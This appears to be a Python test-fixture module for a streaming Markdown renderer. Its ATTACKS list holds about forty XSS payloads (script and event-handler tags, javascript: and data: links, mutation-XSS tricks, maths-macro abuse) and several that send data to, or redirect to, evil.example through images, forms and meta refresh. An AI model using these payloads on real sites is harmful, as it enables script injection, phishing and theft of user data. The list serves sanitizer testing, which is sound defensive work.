"""Markdown that is hard to stream, and Markdown that means harm."""

import itertools
import random
from collections.abc import Callable

DOCUMENTS = {
    "prose": "One *line* with **strong** words,\nand `code` in it.\n\nAnother, [linked](https://a.example/x_(y)).\n",
    "late link definition": "See [the sheet][s] and [it][] again.\n\nMore words.\n\n[s]: https://a.example/sheet\n[it]: https://b.example\n",
    "nested lists": "- one\n  - two\n    1. three\n    2. four\n\n       a paragraph\n- five\n\nAfter.\n",
    "loose list": "1. one\n\n2. two\n\n   more of two\n\n3. three\n",
    "tasks": "- [x] measured\n- [ ] painted\n",
    "table": "Before.\n\n| a | b \\| c |\n| :-- | --: |\n| 1 | `x` |\n| **2** | y |\n\nAfter.\n",
    "code": "Look:\n\n```python\ndef lux(d: float) -> float:\n    return 182 / d**2  # candela\n```\n\nDone.\n",
    "code in a list": "1. First:\n\n   ```js\n   const a = `b`;\n   ```\n\n2. Second.\n",
    "longer fence": "````markdown\n```\ninside\n```\n````\n\nafter\n",
    "tilde fence": "~~~\nplain ``` text\n~~~\n",
    "open fence": "Here:\n\n```rust\nfn main() {\n    loop {}\n",
    "indented code": "Words:\n\n    four spaces\n    more\n\nWords.\n",
    "unknown language": "```klingon\nqapla'\n```\n",
    "setext": "A heading\n=========\n\nAnother\n---\n\ntext\n",
    "headings": "# One\n## Two\n### Three\n#### Four\n###### Six\n",
    "quote": "> quoted\n> **more**\n>\n> - a list\n\nand on\n",
    "rule": "above\n\n---\n\nbelow\n\n***\n",
    "html": "A <b>bold</b> and <kbd>Ctrl</kbd> word<br>and <details><summary>more</summary>hidden</details>\n\n",
    "html block": "<div>\n\n*block*\n\n</div>\n\nafter\n",
    "inline maths": "With $n = 8$ there are $\\binom{n}{2}$ pairs, and it costs $5 or $10 a piece. Also \\(a^2\\).\n",
    "display maths": "So\n\n$$\nE = \\frac{I \\cos\\theta}{d^2}\n$$\n\nand $$x$$ or\n\n\\[\n\\int_0^1 x\n\\]\n\nend\n",
    "wrong maths": "$$\n\\frac{1}{\n$$\n\nand $\\undefinedcommand{x}$\n",
    "emphasis": "***both*** __strong__ _em_ ~~gone~~ snake_case_word 2*3*4 20~25~30\n",
    "pictures": "![a lamp](https://a.example/lamp.png?q=1) and ![](https://b.example/x.gif)\n\n![ref][p]\n\n[p]: https://c.example/p.png\n",
    "autolinks": "https://a.example/path?x=1&y=2 and <mailto:alice@example.com>, www.example.com.\n",
    "entities": "&lt;b&gt; &amp; &copy; &#x41; 3 < 4 > 2\n",
    "line ends": "one\r\ntwo\r\n\r\n```\r\ncode\r\n```\r\n",
    "scripts": "日本語の文章。**強調**です。 العربية *مائل* 🪔👩‍👩‍👧\n",
    "backslashes": "\\*not em\\* and C:\\\\path\\`s\n",
    "definition only": "[a]: https://a.example\n",
    "empty": "",
    "blank": "\n\n\n",
}

ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1)></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' https://a.example' onclick=alert(1)>x</a>",
    "[x](/accounts/logout/) [y](?branch=2) [z](//evil.example) [w](#main)",
    "![x](javascript:alert(1)) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![secret](https://evil.example/?q=secret) <img src=https://evil.example/2>",
    "![a][b]\n\n[b]: https://evil.example/3",
    "<video poster=https://evil.example><source src=x onerror=alert(1)></video>",
    "<table background=https://evil.example><tr><td background=x>1</table>",
    "<form action=https://evil.example><input name=csrfmiddlewaretoken><button formaction=x>Sign in</button></form>",
    "<input type=text autofocus onfocus=alert(1)><input type=image src=https://evil.example>",
    "<style>*{display:none}</style><link rel=stylesheet href=https://evil.example>",
    "<p style='position:fixed;inset:0;background:url(https://evil.example)'>x</p>",
    "<div class='banner danger'>Your session ended</div><span class='toast dialog' id=main>x</span>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href=https://evil.example>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template><textarea></textarea><img src=x onerror=alert(1)>",
    "$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example}$ $\\htmlData{a=b}{x}$",
    "$$\n\\html@mathml{<img src=x onerror=alert(1)>}{}\n$$",
    "```html\n<img src=x onerror=alert(1)>\n```",
    '```x" onmouseover="alert(1)\ncode\n```',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href=https://a.example ping=https://evil.example target=_self>x</a>",
    "<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><select autofocus onfocus=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "> <script\n> >alert(1)</script\n> >",
    "<div><div><div id=x></div><img src=`x` onerror=alert(1)//",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
]


def long_answer(tokens: int, seed: int = 1) -> str:
    """Return a made-up answer of about so many tokens, with code, tables, lists and formulas."""
    chance = random.Random(seed)
    words = ["the", "lamp", "stands", "beside", "a", "book", "and", "its", "light", "falls", "on", "paper"]

    def sentence() -> str:
        chosen = [chance.choice(words) for _ in range(chance.randint(6, 18))]
        chosen[2] = f"**{chosen[2]}**" if chance.random() < 0.3 else chosen[2]
        return " ".join(chosen).capitalize() + "."

    def paragraph() -> str:
        return " ".join(sentence() for _ in range(chance.randint(2, 5)))

    def code(lines: int) -> str:
        body = "\n".join(f"    value_{n} = compute({n}, 'text', scale={n / 7:.2f})  # step {n}" for n in range(lines))
        return f"```python\ndef work() -> None:\n{body}\n```"

    def table() -> str:
        rows = "\n".join(f"| {n} cm | {182 / (n + 1):.1f} lx | {sentence()} |" for n in range(12))
        return f"| Distance | Light | Good for |\n| --- | --: | --- |\n{rows}"

    kinds: list[Callable[[], str]] = [
        paragraph,
        paragraph,
        lambda: f"## {sentence()}",
        lambda: "\n".join(f"- {sentence()}" for _ in range(6)),
        table,
        lambda: code(25),
        lambda: f"$$\nE_{{{chance.randint(1, 9)}}} = \\frac{{I \\cos\\theta}}{{d^2}}\n$$",
    ]
    parts = [code(160)]
    for kind in itertools.cycle(kinds):
        if sum(map(len, parts)) >= tokens * 4:
            return "\n\n".join(parts)
        parts.append(kind())
    raise AssertionError
